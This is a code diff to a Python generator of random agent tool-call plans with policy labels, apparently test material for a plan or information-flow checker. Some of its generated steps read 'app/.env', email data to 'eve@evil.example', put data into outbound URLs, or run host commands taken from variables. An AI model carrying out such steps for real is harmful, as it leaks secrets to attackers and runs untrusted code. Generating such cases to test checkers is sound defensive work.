@@ -49,13 +49,22 @@ def draw(seed: int) -> Drawn:
         if open_until and number >= min(open_until, count - 1):
             lines.append("}")
             open_until = 0
-    lines.append(f"S{count}: @RESPOND ({_value(random)})")
+    lines.append(f"S{count}: @RESPOND ({value(random)})")
     ids = [f"S{n}" for n in range(1, count + 1)]
-    return Drawn(
-        "\n".join(lines),
+    return Drawn("\n".join(lines), *settings(random, ids))
+
+
+def source(random: Random) -> str:
+    """A call that brings data in."""
+    return random.choice(_SOURCES)
+
+
+def settings(random: Random, ids: list[str]) -> tuple[str, str, frozenset[str]]:
+    """What the policy of a plan with these steps says."""
+    return (
         random.choice(("bounded", "bounded", "strict")),
         random.choice(("U/priv", "U/priv", "T/pub")),
-        frozenset(random.sample(ids, random.randint(0, count // 2))),
+        frozenset(random.sample(ids, random.randint(0, len(ids) // 2))),
     )
 
 
@@ -64,7 +73,7 @@ def _step(random: Random, number: int, count: int, *, in_block: bool) -> str:
     chance = random.random()
     item = False
     if chance < 0.22:
-        guard = f"?IF ({_condition(random)}) THEN "
+        guard = f"?IF ({condition(random)}) THEN "
     elif chance < 0.30:
         guard = f"?FOREACH ($x IN ${random.choice(VARIABLES)}) THEN "
         item = True
@@ -76,7 +85,7 @@ def _step(random: Random, number: int, count: int, *, in_block: bool) -> str:
     if random.random() < 0.15:
         ways = ("@RETRY(1)", f'TERMINATE ("no {_reference(random, item)}")')
         failure = " ON_FAIL " + random.choice(ways if in_block else (*ways, f"GOTO {_target(random, count)}"))
-    return f"{guard}{_call(random, item)} > ${output}{cast}{failure}"
+    return f"{guard}{call(random, item)} > ${output}{cast}{failure}"
 
 
 def _control(random: Random, count: int) -> str:
@@ -84,8 +93,8 @@ def _control(random: Random, count: int) -> str:
         (
             f"GOTO {_target(random, count)}",
             f"GOTO {_target(random, count)}",
-            f"TERMINATE ({_value(random)})",
-            f"@RESPOND ({_value(random)})",
+            f"TERMINATE ({value(random)})",
+            f"@RESPOND ({value(random)})",
         )
     )
 
@@ -94,7 +103,8 @@ def _target(random: Random, count: int) -> str:
     return f"S{random.randint(1, count)}"
 
 
-def _condition(random: Random) -> str:
+def condition(random: Random) -> str:
+    """A condition over one variable or two."""
     one = random.choice(
         (
             '${v} contains "yes"',
@@ -114,7 +124,7 @@ def _reference(random: Random, item: bool = False) -> str:
     return "$x" if item and random.random() < 0.6 else f"${random.choice(VARIABLES)}"
 
 
-def _value(random: Random, item: bool = False) -> str:
+def value(random: Random, item: bool = False) -> str:
     """A literal, a reference, a text with one in it, or several of them in a text or a list."""
     name, other = _reference(random, item), f"${random.choice(VARIABLES)}"
     simple = ('"plain"', '"other"', name, f'"t {name} u"', f'"{name}{name}"')
@@ -122,40 +132,41 @@ def _value(random: Random, item: bool = False) -> str:
     return random.choice(simple if random.random() < 0.75 else several)
 
 
-def _call(random: Random, item: bool) -> str:
-    value = _value(random, item)
+def call(random: Random, item: bool = False) -> str:
+    """A call of some tool."""
+    given = value(random, item)
     name = _reference(random, item)
     path, key = random.choice(FILES), random.choice(KEYS)
     choices = (
         (3, f'@READ_FILE (path="{path}")'),
         (0.3, '@READ_FILE (path="app/.env")'),
-        (3, f"@WEB_SEARCH (query={value})"),
+        (3, f"@WEB_SEARCH (query={given})"),
         (1.5, f'@FETCH_PAGE (url="https://c.example/?q={name}")'),
         (1, '@FETCH_PAGE (url="https://c.example/fixed")'),
         (1, f'@FETCH_PAGE (url="https://api.internal/?q={name}")'),
         (0.6, f"@FETCH_PAGE (url={name})"),
-        (2, f'@LLM_SUMMARIZE ({value}, format="brief")'),
-        (0.7, f'@LLM_GENERATE (context={value}, format="link to https://c.example/?d=DATA")'),
-        (2, f'@EXEC_CODE (code="print(1)", stdin={value})'),
+        (2, f'@LLM_SUMMARIZE ({given}, format="brief")'),
+        (0.7, f'@LLM_GENERATE (context={given}, format="link to https://c.example/?d=DATA")'),
+        (2, f'@EXEC_CODE (code="print(1)", stdin={given})'),
         (0.3, f"@EXEC_CODE (code={name})"),
-        (1.5, f'@WRITE_FILE (path="{path}", content={value})'),
-        (0.3, f'@WRITE_FILE (path="out/run.sh", content={value})'),
-        (0.2, f"@WRITE_FILE (path={name}, content={value})"),
-        (0.5, f'@EDIT_FILE (path="{path}", old="a", new={value})'),
+        (1.5, f'@WRITE_FILE (path="{path}", content={given})'),
+        (0.3, f'@WRITE_FILE (path="out/run.sh", content={given})'),
+        (0.2, f"@WRITE_FILE (path={name}, content={given})"),
+        (0.5, f'@EDIT_FILE (path="{path}", old="a", new={given})'),
         (0.5, '@SEARCH_FILES (pattern="a")'),
-        (0.8, f"@STORE_FACT (content={value})"),
+        (0.8, f"@STORE_FACT (content={given})"),
         (0.8, '@QUERY_MEMORY (query="a")'),
-        (0.8, f'@SET_WM (key="{key}", value={value})'),
+        (0.8, f'@SET_WM (key="{key}", value={given})'),
         (0.8, f'@GET_WM (key="{key}")'),
         (0.8, f'@FORMAT ("t {name}")'),
         (0.5, f'@FORMAT ("https://c.example/?q={name}")'),
         (0.5, '@HOST_EXEC (command="ls")'),
         (0.2, f"@HOST_EXEC (command={name})"),
-        (0.5, f'@SEND_EMAIL (to="team@corp.example", body={value})'),
-        (0.5, f'@SEND_EMAIL (to="eve@evil.example", body={value})'),
-        (1, f"@ECHO (value={value})"),
-        (0.5, f'@FILL (text="https://c.example/?d=DATA", data={value})'),
-        (0.3, f'@FILL (text="t DATA u", data={value})'),
+        (0.5, f'@SEND_EMAIL (to="team@corp.example", body={given})'),
+        (0.5, f'@SEND_EMAIL (to="eve@evil.example", body={given})'),
+        (1, f"@ECHO (value={given})"),
+        (0.5, f'@FILL (text="https://c.example/?d=DATA", data={given})'),
+        (0.3, f'@FILL (text="t DATA u", data={given})'),
     )
     weights = [weight for weight, _ in choices]
     return random.choices([text for _, text in choices], weights)[0]
